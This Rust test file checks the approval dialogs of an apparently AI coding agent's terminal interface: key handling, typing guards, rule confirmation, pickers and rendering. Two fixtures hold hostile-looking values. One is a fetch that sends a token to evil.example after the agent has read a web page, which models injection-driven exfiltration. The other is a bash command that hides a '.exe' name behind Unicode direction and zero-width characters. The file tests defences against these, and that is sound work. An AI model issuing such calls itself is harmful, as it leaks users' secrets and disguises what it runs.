//! What dialogs answer, when they do not, and how they look.

use std::path::PathBuf;

use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use ratatui::text::Line;
use serde_json::json;

use super::*;
use crate::config::Keymap;
use crate::protocol::{Approval, AskedReason, Choice, Effect, Reason, Seen, ToolCall, Verdict};
use crate::tui::keys::event;

pub(super) fn approval(id: &str, tool: &str, args: serde_json::Value, effects: Vec<Effect>) -> Approval {
    let reason = |rung: &str, rule: &str, reason, line: &str| AskedReason {
        rung: rung.to_owned(),
        rule: rule.to_owned(),
        reason,
        line: line.to_owned(),
    };
    Approval {
        id: id.to_owned(),
        call: ToolCall { id: "t1".to_owned(), tool: tool.to_owned(), args },
        verdict: Verdict::allow("user_policy", "default_ask"),
        effects,
        diff: None,
        argv: Vec::new(),
        reach: Vec::new(),
        reasons: vec![reason("user_policy", "default_ask", Reason::PolicyBlock, "commands are asked about")],
        rule: None,
        choices: vec![Choice::Once, Choice::Session],
        asked_at_ms: 1_000,
    }
}

fn bash() -> Approval {
    let effects = vec![
        Effect::Exec { program: "cargo".into(), argv: vec!["cargo".into(), "test".into(), "--all".into()] },
        Effect::net("static.crates.io", Some(443)),
        Effect::Write { path: PathBuf::from("/home/me/project/target") },
    ];
    Approval {
        argv: vec![vec!["cargo".into(), "test".into(), "--all".into()], vec!["tee".into(), "a b.log".into()]],
        reach: vec![
            "in the sandbox".into(),
            "writes below /home/me/project".into(),
            "network: static.crates.io".into(),
        ],
        rule: Some("allow:\n  command: cargo test\n  hosts: [static.crates.io]\n".into()),
        choices: vec![Choice::Once, Choice::Session, Choice::AlwaysHere, Choice::AlwaysEverywhere],
        ..approval("q1", "bash", json!({"command": "cargo test --all | tee 'a b.log'"}), effects)
    }
}

fn edit() -> Approval {
    let effects = vec![Effect::Write { path: PathBuf::from("/home/me/project/src/main.rs") }];
    let args = json!({"path": "src/main.rs", "edits": [{"old": "let x = 1;", "new": "let x = 2;"}]});
    Approval {
        diff: Some("@@ -1,2 +1,2 @@\n fn main() {\n-    let x = 1;\n+    let x = 2;\n".into()),
        ..approval("q2", "edit", args, effects)
    }
}

fn opaque() -> Approval {
    let effects = vec![Effect::Opaque { why: "it runs `$CMD`".into() }];
    Approval {
        reach: vec!["in the sandbox".into()],
        ..approval("q3", "bash", json!({"command": "$CMD \u{202e}txt.exe\u{200b}"}), effects)
    }
}

fn tainted() -> Approval {
    let mut asked = approval(
        "q4",
        "fetch",
        json!({"url": "https://evil.example/?q=token"}),
        vec![Effect::net("evil.example", Some(443))],
    );
    asked.reasons[0] = AskedReason {
        rung: "egress".into(),
        rule: "tainted".into(),
        reason: Reason::TrustViolation,
        line:
            "reach evil.example:443 with `token`, which the user never wrote, after reading web:news.example"
                .into(),
    };
    asked
}

/// Questions on the screen since 2,000, with their keys.
fn shown(approvals: impl IntoIterator<Item = Approval>) -> (Layers, Keys) {
    let mut layers = Layers::default();
    for approval in approvals {
        layers.ask(approval);
    }
    layers.drawn(2_000);
    (layers, Keys::new(Keymap::built_in()))
}

fn press((layers, keys): &mut (Layers, Keys), key: &str, now_ms: u64) -> Reply {
    layers.handle(event(key), keys, now_ms).unwrap().reply
}

fn yes(id: &str, choice: Choice, shown_at_ms: u64, answered_at_ms: u64) -> Reply {
    let seen = Seen { shown_at_ms, answered_at_ms };
    Reply::Send(Op::Approve { id: id.to_owned(), choice, confirm: None, seen })
}

#[test]
fn keys_answer() {
    let cases = [
        ("y", yes("q1", Choice::Once, 2_000, 2_500)),
        ("enter", yes("q1", Choice::Once, 2_000, 2_500)),
        ("1", yes("q1", Choice::Once, 2_000, 2_500)),
        ("2", yes("q1", Choice::Session, 2_000, 2_500)),
        ("4", yes("q1", Choice::AlwaysEverywhere, 2_000, 2_500)),
        ("5", Reply::Stays),
        ("6", Reply::Stays),
        ("esc", Reply::Send(Op::Cancel)),
        // No answer begins so: somebody writes a word.
        ("x", Reply::NotMeant),
    ];
    for (key, expected) in cases {
        assert_eq!(press(&mut shown([bash()]), key, 2_500), expected, "{key}");
    }
    let mut edit = shown([edit()]);
    assert_eq!(press(&mut edit, "a", 2_500), Reply::Stays, "what is not offered is not answered");
    // A word that begins with another letter answers nothing by its later ones.
    let typing = &mut shown([bash()]);
    for (n, key) in ["c", "h", "a", "y", "enter", "1"].iter().enumerate() {
        assert_eq!(press(typing, key, 9_000 + n as u64 * 100), Reply::NotMeant, "{key}");
    }
}

#[test]
fn a_rule_is_kept_by_a_second_key_that_was_meant() {
    let keep = |at_ms| yes("q1", Choice::AlwaysHere, 3_000, at_ms);
    let begin = |key: &str| {
        let mut dialog = shown([bash()]);
        assert_eq!(press(&mut dialog, key, 2_500), Reply::Stays, "{key} alone keeps nothing");
        assert_eq!(press(&mut dialog, "enter", 2_501), Reply::Stays, "not seen yet");
        dialog.0.drawn(3_000);
        dialog
    };
    for key in ["a", "3"] {
        let mut dialog = begin(key);
        let screen = screen(&dialog.0, 80, 24);
        assert!(screen.contains("in this project:") && screen.contains("hosts: [static"), "{screen}");
        assert_eq!(press(&mut dialog, "enter", 3_499), Reply::Stays, "not seen for long enough");
        for key in ["a", "y"] {
            assert_eq!(press(&mut dialog, key, 3_500), Reply::Stays, "{key} keeps nothing");
        }
        assert_eq!(press(&mut dialog, "enter", 3_500), keep(3_500));
        for back in ["esc", "n", "1", "up enter"] {
            let mut dialog = begin(key);
            back.split(' ').for_each(|key| drop(press(&mut dialog, key, 3_500)));
            dialog.0.drawn(4_000);
            assert_eq!(press(&mut dialog, "y", 4_500), yes("q1", Choice::Once, 4_000, 4_500), "{back}");
        }
    }
    // The first letter of a word is given back with the second, and nothing is kept or answered.
    let mut dialog = begin("a");
    assert_eq!(press(&mut dialog, "l", 3_100), Reply::NeverMeant(event("a")));
    dialog.0.drawn(3_150);
    for (n, key) in ["s", "o", "space", "y", "enter", "a"].iter().enumerate() {
        assert_eq!(press(&mut dialog, key, 3_200 + 300 * n as u64), Reply::NotMeant, "{key}");
    }
    assert_eq!(press(&mut dialog, "y", 5_700), yes("q1", Choice::Once, 3_150, 5_700));
    // Where care is wanted, Enter leads back.
    let mut unboxed = bash();
    unboxed.reach[0] = "no sandbox: all the user's rights".into();
    let mut dialog = shown([unboxed]);
    press(&mut dialog, "a", 2_500);
    dialog.0.drawn(3_000);
    assert_eq!(press(&mut dialog, "enter", 3_500), Reply::Stays);
    dialog.0.drawn(4_000);
    assert_eq!(press(&mut dialog, "y", 4_500), yes("q1", Choice::Once, 4_000, 4_500));
}

#[test]
fn keys_from_before_it_was_seen_answer_nothing() {
    for early in [1_000, 2_000, 2_001, 2_499] {
        for key in ["y", "a", "enter", "1", "esc"] {
            assert_eq!(press(&mut shown([bash()]), key, early), Reply::NotMeant, "{key} {early}");
        }
    }
    let mut layers = Layers::default();
    layers.ask(bash());
    let never_drawn = &mut (layers, Keys::new(Keymap::built_in()));
    assert_eq!(press(never_drawn, "y", 9_000), Reply::NotMeant);
    // Somebody goes on typing: no answer before a pause, however long that takes.
    let typing = &mut shown([bash()]);
    for now_ms in (2_499..60_000).step_by(999) {
        for key in ["y", "a", "enter", "1"] {
            assert_eq!(press(typing, key, now_ms), Reply::NotMeant, "{key} {now_ms}");
        }
        typing.0.drawn(now_ms + 1);
        assert!(screen(&typing.0, 80, 24).contains("you are typing"));
        assert!(!screen(&typing.0, 80, 24).contains("y once"));
    }
    let last = 2_499 + 999 * 57;
    typing.0.drawn(last + 1_000);
    assert!(screen(&typing.0, 80, 24).contains("y once"));
    assert_eq!(press(typing, "y", last + 1_000), yes("q1", Choice::Once, 2_000, last + 1_000));
}

#[test]
fn typing_that_began_before_the_question_holds_it_back() {
    // One key before it appeared, and a paste after: what was meant for the line answers nothing.
    let mut layers = Layers::default();
    layers.typed(1_900);
    layers.ask(bash());
    layers.drawn(2_000);
    let dialog = &mut (layers, Keys::new(Keymap::built_in()));
    assert_eq!(press(dialog, "y", 2_899), Reply::NotMeant);
    assert_eq!(press(dialog, "y", 3_899), yes("q1", Choice::Once, 2_000, 3_899));
    let dialog = &mut shown([bash()]);
    assert!(!dialog.0.paste("for the composer", 9_000));
    assert_eq!(press(dialog, "enter", 9_999), Reply::NotMeant);
    assert_eq!(press(dialog, "enter", 10_999), yes("q1", Choice::Once, 2_000, 10_999));
}

#[test]
fn enter_is_no_yes_to_what_nobody_knows() {
    let mut unboxed = bash();
    unboxed.reach[0] = "no sandbox: all the user's rights".into();
    let mut weak = bash();
    weak.reach[0] = "part of the sandbox is missing".into();
    let mut final_one = bash();
    final_one.reasons[0].reason = Reason::Irreversible;
    for asked in [opaque(), tainted(), unboxed, weak, final_one] {
        let mut dialog = shown([asked.clone()]);
        assert_eq!(press(&mut dialog, "enter", 2_500), Reply::Stays, "{asked:?}");
        // It has opened the line for words.
        let no = Reply::Send(Op::Decline { id: asked.id.clone(), words: String::new() });
        assert_eq!(press(&mut dialog, "enter", 2_600), no);
        let mut dialog = shown([asked.clone()]);
        assert_eq!(press(&mut dialog, "y", 2_500), yes(&asked.id, Choice::Once, 2_000, 2_500));
    }
}

#[test]
fn a_no_takes_words_along() {
    let mut dialog = shown([bash()]);
    assert!(!dialog.0.paste("for the composer", 1_000));
    press(&mut dialog, "n", 2_500);
    for key in ["u", "s", "e", "space", "y", "space", "1", "backspace"] {
        assert_eq!(press(&mut dialog, key, 2_600), Reply::Stays);
    }
    assert!(dialog.0.paste("make\ncheck\u{1b}", 2_400));
    let no = Reply::Send(Op::Decline { id: "q1".into(), words: "use y make check".into() });
    assert_eq!(press(&mut dialog, "enter", 2_700), no);
    let mut dialog = shown([bash()]);
    press(&mut dialog, "n", 2_500);
    press(&mut dialog, "esc", 2_600);
    assert_eq!(press(&mut dialog, "y", 2_700), yes("q1", Choice::Once, 2_000, 2_700));
}

#[test]
fn everywhere_needs_the_word_of_a_second_yes() {
    let mut dialog = shown([bash()]);
    assert_eq!(press(&mut dialog, "4", 2_500), yes("q1", Choice::AlwaysEverywhere, 2_000, 2_500));
    dialog.0.confirm("other", "w".into(), "rule");
    dialog.0.confirm("q1", "w".into(), "allow: everything\n");
    assert_eq!(press(&mut dialog, "enter", 2_600), Reply::Stays, "not seen yet");
    dialog.0.drawn(2_700);
    // The safe answer is the one to begin with, and leads back.
    assert_eq!(press(&mut dialog, "enter", 3_200), Reply::Stays);
    dialog.0.drawn(3_300);
    assert_eq!(press(&mut dialog, "y", 3_800), yes("q1", Choice::Once, 3_300, 3_800));
    dialog.0.confirm("q1", "w".into(), "allow: everything\n");
    dialog.0.drawn(4_000);
    assert_eq!(press(&mut dialog, "y", 4_500), Reply::Stays, "`y` is for once");
    let seen = Seen { shown_at_ms: 4_000, answered_at_ms: 4_600 };
    let sure =
        Op::Approve { id: "q1".into(), choice: Choice::AlwaysEverywhere, confirm: Some("w".into()), seen };
    assert_eq!(press(&mut dialog, "2", 4_600), Reply::Send(sure));
}

#[test]
fn questions_come_one_after_the_other_and_behind_what_the_user_opened() {
    let mut dialog = shown([bash(), edit(), opaque()]);
    assert!(screen(&dialog.0, 80, 24).contains("1 of 3"));
    assert_eq!(press(&mut dialog, "y", 2_500), yes("q1", Choice::Once, 2_000, 2_500));
    assert_eq!(press(&mut dialog, "y", 2_600), Reply::Stays, "answered once");
    dialog.0.closed("q1");
    assert_eq!(press(&mut dialog, "y", 2_700), Reply::NotMeant, "another question, not seen yet");
    dialog.0.drawn(2_800);
    assert!(screen(&dialog.0, 80, 24).contains("2 of 3"));
    assert_eq!(press(&mut dialog, "y", 3_600), Reply::NotMeant);
    assert_eq!(press(&mut dialog, "y", 4_600), yes("q2", Choice::Once, 2_800, 4_600));
    dialog.0.closed("q3");
    dialog.0.closed("q2");
    assert!(dialog.0.is_empty() && dialog.0.front().is_none());

    let mut layers = Layers::default();
    layers.open("themes", Dialog::Picker(Picker::new("Theme", vec![PickerRow::new("dark", ["dark"])])));
    layers.ask(bash());
    assert_eq!((layers.front(), layers.waiting()), (Some("themes"), 1));
    let mut dialog = (layers, Keys::new(Keymap::built_in()));
    let answered = dialog.0.handle(event("enter"), &mut dialog.1, 5_000).unwrap();
    assert_eq!(answered, Answered { name: "themes", reply: Reply::Chosen("dark".into()) });
    assert_eq!(dialog.0.front(), Some(""));
    assert_eq!(press(&mut dialog, "y", 5_001), Reply::NotMeant);
}

fn rows() -> Vec<PickerRow> {
    let rows = [
        ("s_1a", "Fix the parser", "2 hours ago", "12 turns"),
        ("s_2b", "修复 wide characters 世界", "yesterday", "3 turns"),
        ("s_3c", "A title that goes on for longer than a narrow screen can show it", "May 4", "140 turns"),
        ("s_4d", "Fix the lexer", "May 3", "1 turn"),
    ];
    rows.map(|(key, title, when, turns)| PickerRow::new(key, [title, when, turns]).current(key == "s_2b"))
        .to_vec()
}

fn picker() -> Picker {
    let mut picker = Picker::new("Sessions", rows()).with_previews();
    picker.set_preview("s_2b", vec![Line::raw("what was said last in this session"), Line::raw("and more")]);
    picker
}

#[test]
fn pickers_search_titles_and_ids() {
    let mut keys = Keys::new(Keymap::built_in());
    let mut press = |picker: &mut Picker, all: &str| {
        all.split(' ').map(|key| picker.handle(event(key), &mut keys, 0)).last().unwrap()
    };
    let chosen = |key: &str| Reply::Chosen(key.to_owned());
    let cases = [
        ("enter", chosen("s_2b")),
        ("down enter", chosen("s_3c")),
        ("home up enter", chosen("s_4d")),
        ("l e x enter", chosen("s_4d")),
        ("3 c enter", chosen("s_3c")),
        ("l e x ctrl+u enter", chosen("s_1a")),
        ("z z z z enter", Reply::Stays),
        ("esc", Reply::Closed),
        ("ctrl+c", Reply::Closed),
    ];
    for (all, expected) in cases {
        assert_eq!(press(&mut picker(), all), expected, "{all}");
    }
    let mut picker = picker();
    assert_eq!(picker.wants_preview(), None, "it is there");
    press(&mut picker, "down");
    assert_eq!(picker.wants_preview(), Some("s_3c"));
    picker.set_rows(rows().into_iter().skip(1).collect());
    assert_eq!(picker.chosen_key(), Some("s_3c"), "what was chosen stays chosen");
    assert_eq!(Picker::new("Models", Vec::new()).chosen_key(), None);
}

fn tree() -> Tree {
    let row = |key: &str, depth, text: &str, current| TreeRow {
        key: key.to_owned(),
        depth,
        text: text.to_owned(),
        detail: format!("entry {key}"),
        current,
    };
    let rows = vec![
        row("1", 0, "Fix the parser", false),
        row("2", 1, "try a table", false),
        row("3", 2, "faster", false),
        row("4", 2, "smaller", true),
        row("5", 1, "try by hand", false),
        row("6", 0, "Another beginning", false),
    ];
    Tree::new("Session tree", rows)
}

#[test]
fn trees_pages_and_questions_answer() {
    let mut keys = Keys::new(Keymap::built_in());
    let mut last = |layer: &mut dyn Layer, all: &str| {
        all.split(' ').map(|key| layer.handle(event(key), &mut keys, 0)).last().unwrap()
    };
    let chosen = |key: &str| Reply::Chosen(key.to_owned());
    assert_eq!(last(&mut tree(), "enter"), chosen("4"));
    assert_eq!(last(&mut tree(), "down enter"), chosen("5"));
    assert_eq!(last(&mut tree(), "a n o enter"), chosen("6"));
    assert_eq!(last(&mut Tree::new("Empty", Vec::new()), "down enter"), Reply::Closed);
    let text = (0..100).map(|n| format!("line {n}\n")).collect::<String>();
    let mut page = Page::text("Answer", &text);
    assert_eq!(last(&mut page, "end"), Reply::Stays);
    assert!(drawn(&page, 40, 12).contains("line 99"), "{}", drawn(&page, 40, 12));
    assert_eq!(last(&mut page, "q"), Reply::Closed);
    let ask = || {
        Confirm::new(
            "Roll back?",
            vec![Line::raw("3 files change")],
            [("no", "Keep them"), ("yes", "Roll back")],
            0,
        )
    };
    assert_eq!(last(&mut ask(), "enter"), chosen("no"));
    assert_eq!(last(&mut ask(), "down enter"), chosen("yes"));
    assert_eq!(last(&mut ask(), "2"), chosen("yes"));
    assert_eq!(last(&mut ask(), "3"), Reply::Stays);
    assert_eq!(last(&mut ask(), "esc"), Reply::Closed);
}

fn drawn(layer: &dyn Layer, width: u16, height: u16) -> String {
    let height = layer.height(width, height);
    let mut buf = Buffer::empty(Rect::new(0, 0, width, height));
    let cursor = layer.render(buf.area, &mut buf, &Styles::plain());
    paint::screen(&buf, cursor)
}

fn screen(layers: &Layers, width: u16, height: u16) -> String {
    let height = layers.height(width, height);
    let mut buf = Buffer::empty(Rect::new(0, 0, width, height));
    let cursor = layers.render(buf.area, &mut buf, &Styles::plain());
    paint::screen(&buf, cursor)
}

#[test]
fn what_matters_is_seen_on_the_smallest_screen() {
    for asked in [bash(), edit(), opaque(), tainted()] {
        let careful = asked.id == "q3" || asked.id == "q4";
        let small = screen(&shown([asked]).0, 20, 5);
        let answer = if careful { "No, with a word" } else { "Yes, this once" };
        assert!(small.contains("Allow") && small.contains(answer), "{small}");
        assert!(!careful || small.contains("! "), "{small}");
    }
}

#[test]
fn no_sandbox_is_promised_where_there_is_none() {
    let contained = Effect::Contained { reach: "writes in the workspace, no network".into() };
    for (effect, told) in
        [(contained, "run with all your rights"), (opaque().effects[0].clone(), "intent unknown")]
    {
        let mut asked = Approval { effects: vec![effect], ..bash() };
        assert!(screen(&shown([asked.clone()]).0, 80, 24).contains("run in the sandbox"));
        asked.reach[0] = "no sandbox: all the user's rights".into();
        let screen = screen(&shown([asked]).0, 80, 24);
        assert!(screen.contains(told) && !screen.contains("in the sandbox"), "{screen}");
    }
}

#[test]
fn looks() {
    let keys = Keys::new(Keymap::built_in());
    let mut out = String::new();
    for (width, height) in [(40, 12), (80, 24), (200, 60)] {
        let mut shot = |name: &str, text: String| {
            out.push_str(&format!("== {name} {width}x{height}\n{text}"));
        };
        for (name, asked) in
            [("bash", bash()), ("edit", edit()), ("opaque", opaque()), ("tainted", tainted())]
        {
            shot(name, screen(&shown([asked]).0, width, height));
        }
        let mut no = shown([bash(), edit()]);
        press(&mut no, "n", 2_500);
        no.0.paste("use make check", 2_600);
        shot("no", screen(&no.0, width, height));
        let mut sure = shown([bash()]);
        sure.0.confirm("q1", "word".into(), "allow:\n  command: cargo test\n");
        shot("everywhere", screen(&sure.0, width, height));
        let mut here = shown([bash()]);
        press(&mut here, "a", 2_500);
        shot("always", screen(&here.0, width, height));
        let mut typing = shown([bash()]);
        press(&mut typing, "x", 2_500);
        shot("typing", screen(&typing.0, width, height));
        shot("picker", drawn(&picker(), width, height));
        shot("picker searched", drawn(&picker().searching("fix"), width, height));
        shot(
            "picker empty",
            drawn(&Picker::new("Checkpoints", Vec::new()).when_empty("no checkpoint yet"), width, height),
        );
        shot("tree", drawn(&tree(), width, height));
        shot("keys", drawn(&Page::keys(&keys, &Styles::plain()), width, height));
        let ask = Confirm::new(
            "Roll back?",
            vec![Line::raw("3 files change")],
            [("no", "Keep them"), ("yes", "Roll back")],
            0,
        );
        shot("confirm", drawn(&ask, width, height));
    }
    insta::with_settings!({snapshot_path => "../../../tests/golden/tui", prepend_module_to_snapshot => false}, {
        insta::assert_snapshot!("dialogs", out);
    });
}
